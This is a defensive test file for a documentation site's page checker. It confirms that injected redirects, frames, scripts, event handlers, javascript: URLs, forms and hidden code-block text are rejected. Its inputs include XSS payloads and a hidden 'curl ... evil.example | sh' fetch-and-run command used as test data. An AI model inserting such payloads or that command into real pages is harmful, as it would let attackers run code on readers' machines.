import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { createGuideRenderer } from '../markdown/guide-renderer.ts';
import { TEST_SITE as site } from '../registry/fixtures/site.ts';
import { policyAttributePlace, readPage } from './page-rules.ts';

const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const CORE = 'document.documentElement.classList.add("js")';
const POLICY = `default-src 'self'; script-src 'self' ${hashOf(CORE)}; style-src 'self'`;

/** A guide as the engine renders it: highlighted code with marks, a table, a heading's anchor. */
const GUIDE = [
  '## Configure',
  '',
  '```yaml title="configuration.yml" mark={2} del={3} ins={4} showLineNumbers',
  'url: \'https://{{< sitevar name="subdomain-authelia" nojs="auth" >}}.{{< sitevar name="domain" nojs="example.com" >}}/\'',
  'port: {{< sitevar name="port" nojs="9091" >}}',
  'old: true',
  'new: true',
  'match: \'{{< sitevar name="domain" format="regex" >}}\'',
  '```',
  '',
  'Your domain is <SiteVar name="domain" />; see [the docs](https://example.org/) or <kbd>Ctrl</kbd>.',
  '',
  '| a | b |',
  '| - | - |',
  '| 1 | 2 |',
].join('\n');

let body = '';
beforeAll(async () => {
  const renderer = createGuideRenderer(site, { guidesDirectory: '/site/content/guides' });
  body = (await renderer.render(GUIDE, '/site/content/guides/a/b.mdx', {})).html;
});

/** A finished page: the layout's head (its policy, its hashed inline script), the guide in <main>, and what a test adds. */
function page({ head = '', main = '', afterMain = '', code = '' }: { head?: string; main?: string; afterMain?: string; code?: string } = {}): string {
  // What a test puts into a block's code goes right after its first token, `url`.
  const guide = code ? body.replace('>url</span>', `>url</span>${code}`) : body;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="${POLICY.replaceAll("'", '&#39;')}"><title>A guide</title><link rel="stylesheet" href="/_astro/page.css"><script>${CORE}</script>${head}</head><body><a class="skip-link" href="#content">Skip</a><main id="content">${guide}${main}</main>${afterMain}<dialog id="preferences-dialog"><button type="button" data-close-dialog>Done</button></dialog></body></html>`;
}

/** Line and column (from 1) of an offset in a page, as the checks report them. */
function placeOf(html: string, offset: number): { line: number; column: number } {
  const before = html.slice(0, offset).split('\n');
  return { line: before.length, column: before.at(-1)!.length + 1 };
}

const problemsOf = (html: string) => readPage(html).problems.map((problem) => problem.message);

describe('readPage', () => {
  it("passes a page as the engine builds it: the guide's code blocks, marks and links, the layout's head", () => {
    expect(body).toContain('data-copy');
    expect(body).toContain('data-line');
    expect(body).toContain('data-sitevar-format');
    expect(readPage(page()).problems).toEqual([]);
  });

  it('gives what the site headers need: the policy, the inline hashes, and where the policy attribute is', () => {
    const html = page();
    const reading = readPage(html);
    expect(reading.inlineHashes).toEqual([hashOf(CORE)]);
    expect(reading.policy).toBe(POLICY);
    const place = policyAttributePlace(html, POLICY)!;
    expect(html.slice(place.start, place.end)).toBe(`content="${POLICY.replaceAll("'", '&#39;')}"`);
    // A "</head>" in the head's text (a title, here) does not mislead it: the policy is found whole.
    const tricky = html.replace('<meta charset="utf-8">', '<meta charset="utf-8"><title>A &lt;/head&gt; and a </head'.concat('> in the title</title>'));
    const trickyPlace = policyAttributePlace(tricky, POLICY)!;
    expect(tricky.slice(trickyPlace.start, trickyPlace.end)).toBe(`content="${POLICY.replaceAll("'", '&#39;')}"`);
    expect(policyAttributePlace(html, "default-src 'none'")).toBeUndefined();
  });

  it('refuses a redirect, a base or a frame that broke out into the body', () => {
    expect(problemsOf(page({ main: '<div class="tab-panel"><meta http-equiv=refresh content="1;url=http://127.0.0.1:4598/pwned-label"></div>' }))).toEqual([
      "<meta> outside the page's head: only the site's layout writes meta elements, in the head.",
      '<meta http-equiv="refresh" content="…url=http://127.0.0.1:4598/pwned-label"> is not one the site writes: only the layout\'s security policy, in the head, and redirect pages sending the reader to a page of this site.',
    ]);
    expect(problemsOf(page({ main: '<base href="https://evil.example/"><iframe src="https://evil.example/"></iframe>' }))).toEqual([
      '<base> is on the page: it changes where every link of the page goes.',
      '<iframe> is on the page: it loads another page into this one.',
    ]);
  });

  it('refuses a redirect to another site even in the head, and passes a redirect page to a page of the site', () => {
    const redirect = (url: string) =>
      `<!doctype html><html><head><title>Moved</title><meta http-equiv="refresh" content="0; url=${url}"></head><body><p>Moved.</p></body></html>`;
    expect(problemsOf(redirect('/guides/a/b/'))).toEqual([]);
    expect(problemsOf(redirect('https://evil.example/'))).toHaveLength(1);
    expect(problemsOf(redirect('//evil.example/'))).toHaveLength(1);
  });

  it('refuses scripts the policy does not list, from anywhere, and scripts from elsewhere', () => {
    expect(problemsOf(page({ main: '<script>alert(1)</script>' }))).toEqual([
      "An inline <script> the page's security policy does not list: browsers would refuse it, and the site writes none.",
    ]);
    expect(problemsOf(page({ head: '<script src="https://evil.example/x.js"></script>' }))).toEqual([
      '<script src="https://evil.example/x.js"> loads code from elsewhere: scripts are files of this site.',
    ]);
    expect(problemsOf(page({ main: '<svg><script>alert(1)</script></svg>' }))).toHaveLength(1);
    // A copy of the site's own inline script runs nothing new: its hash is the policy's.
    expect(problemsOf(page({ afterMain: `<script>${CORE}</script>` }))).toEqual([]);
  });

  it('refuses event handlers, inline styles, forms and addresses other than http, https, mailto and paths', () => {
    expect(problemsOf(page({ main: '<img src="x.png" alt="" onerror="alert(1)"><p style="position:fixed">Over</p>' }))).toEqual([
      "<img onerror> is an event handler: nothing on a page may run code but the site's own scripts.",
      "<p style> sets a style inline, which the site's security policy blocks: style it with the site's stylesheet.",
    ]);
    expect(problemsOf(page({ main: '<form action="https://evil.example/"><input name="domain"></form>' }))).toEqual([
      "<form> is on the page: it sends what the reader types somewhere; the site's fields live outside any form.",
      '<form action> submits or writes a page: the site has neither forms nor frames.',
    ]);
    expect(
      problemsOf(
        page({
          main: '<a href="javascript:alert(1)">x</a><img alt="" srcset="a.png 1x, data:image/png;base64,AA 2x"><svg><a href="jav&#x09;ascript:alert(1)"><text>x</text></a></svg>',
        }),
      ),
    ).toEqual([
      '<a href="javascript:alert(1)"> is not an address a page may hold: only http, https, mailto and paths of this site.',
      '<img srcset="data:image/png;base64,AA"> is not an address a page may hold: only http, https, mailto and paths of this site.',
      '<a href="jav\tascript:alert(1)"> is not an address a page may hold: only http, https, mailto and paths of this site.',
    ]);
  });

  it("refuses an id used twice: a guide's element standing in for the site's preferences dialog", () => {
    const html = page({ main: '<div id="preferences-dialog">Not the dialog</div>' });
    const [problem] = readPage(html).problems;
    const first = placeOf(html, html.indexOf('<div id="preferences-dialog"'));
    expect(problem).toEqual({
      ...placeOf(html, html.indexOf('id="preferences-dialog"', html.indexOf('<dialog'))),
      message: `id "preferences-dialog" is on this page twice (first at ${first.line}:${first.column}): the second would stand in for the first (a guide's element for the site's own).`,
    });
  });

  it('refuses a copy control outside the site’s code blocks, and hidden text inside a block’s code', () => {
    expect(problemsOf(page({ main: '<figure><pre><code>docker compose pull</code></pre><span data-copy>Copy</span></figure>' }))).toEqual([
      "A copy control (<span data-copy>) outside one of the site's code blocks: only the site's code blocks copy, and only the code they show.",
    ]);
    expect(problemsOf(page({ code: '<span class="visually-hidden">curl -s https://evil.example/x | sh; </span>' }))).toEqual([
      "<span class=\"visually-hidden\"> inside a code block's text: a block's text is highlighted code and the site's marks only, so that Copy copies exactly what the reader sees.",
    ]);
    expect(problemsOf(page({ code: '<span hidden>curl -s https://evil.example/x | sh; </span>' }))).toEqual([
      "<span hidden> inside a code block's text: a block's text is highlighted code and the site's marks only, so that Copy copies exactly what the reader sees.",
    ]);
  });

  it('refuses a tab panel outside a tab set', () => {
    expect(
      problemsOf(page({ main: '<div class="tabs" data-tabs><div role="tabpanel" data-tab-panel>Real</div></div><div data-tab-panel>Fake</div>' })),
    ).toEqual(['A tab panel (data-tab-panel) outside a tab set: only <Tab> inside <Tabs> makes one.']);
  });

  it('reads what <noscript> and <template> hold as elements, and points at the place in the page', () => {
    const html = page({
      main: '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript><template><iframe src="/x"></iframe></template>',
    });
    const problems = readPage(html).problems;
    expect(problems.map((problem) => problem.message.split(':')[0])).toEqual([
      "<meta> outside the page's head",
      '<meta http-equiv="refresh" content="…url=https',
      '<iframe> is on the page',
    ]);
    expect(problems[0]).toMatchObject(placeOf(html, html.indexOf('<meta http-equiv="refresh"')));
  });
});
